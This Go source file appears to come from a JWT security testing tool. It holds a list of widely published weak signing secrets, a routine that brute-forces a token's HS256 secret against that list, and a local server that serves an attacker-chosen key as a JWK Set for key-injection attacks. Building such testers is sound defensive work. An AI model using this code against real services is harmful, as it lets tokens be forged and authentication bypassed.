package attack

import (
	"encoding/base64"
	"fmt"
	"net"
	"net/http"
	"time"

	"github.com/golang-jwt/jwt/v5"
)

// knownSecrets are secrets that everybody can read in documentation, tutorials and templates. Lists
// that anybody can download have a hundred thousand; a computer tries millions in a second.
var knownSecrets = []string{
	"secret", "Secret", "SECRET", "super-secret", "supersecret", "secretkey", "secret-key", "secret_key", "my-secret", "mysecret",
	"my_secret_key", "your-secret-key", "your_jwt_secret", "jwt-secret", "jwtsecret", "jwt_secret_key", "changeme", "change-me",
	"password", "12341234", "123456", "admin", "test", "dev", "key", "shhhhh", "keyboard cat",
	"your-256-bit-secret", "your-384-bit-secret", "your-512-bit-secret", // jwt.io, as it was
	"a-string-secret-at-least-256-bits-long", // jwt.io
	"put-the-output-of-openssl-rand-hex-32-here",
	"AllYourBase", "my_secret", "replace_with_your_secret", "this-is-a-very-long-secret-key-for-jwt", "00000000000000000000000000000000",
}

// guess returns the secret that the good token was signed with, if it is a known one; else any.
// Nobody has to ask the program for that: the token is enough.
func (t *target) guess() []byte {
	for _, secret := range knownSecrets {
		key := func(*jwt.Token) (any, error) { return []byte(secret), nil }
		if _, err := jwt.Parse(t.token, key, jwt.WithValidMethods([]string{"HS256"})); err == nil {
			return []byte(secret)
		}
	}
	return []byte(knownSecrets[0])
}

// keys is a server that the attacker runs, with a key of the attacker's own.
type keys struct {
	key    []byte
	url    string
	server *http.Server
}

// serveKeys starts a server that has a key as a JWK Set (RFC 7517 §5).
func serveKeys() (*keys, error) {
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	k := &keys{key: []byte("a key of somebody else's, of 32 bytes and more"), url: "http://" + listener.Addr().String() + "/jwks.json"}
	k.server = &http.Server{ReadHeaderTimeout: time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/jwk-set+json")
		fmt.Fprintf(w, `{"keys":[{"kty":"oct","kid":"1","alg":"HS256","use":"sig","k":"%s"}]}`, base64.RawURLEncoding.EncodeToString(k.key))
	})}
	go k.server.Serve(listener)
	return k, nil
}
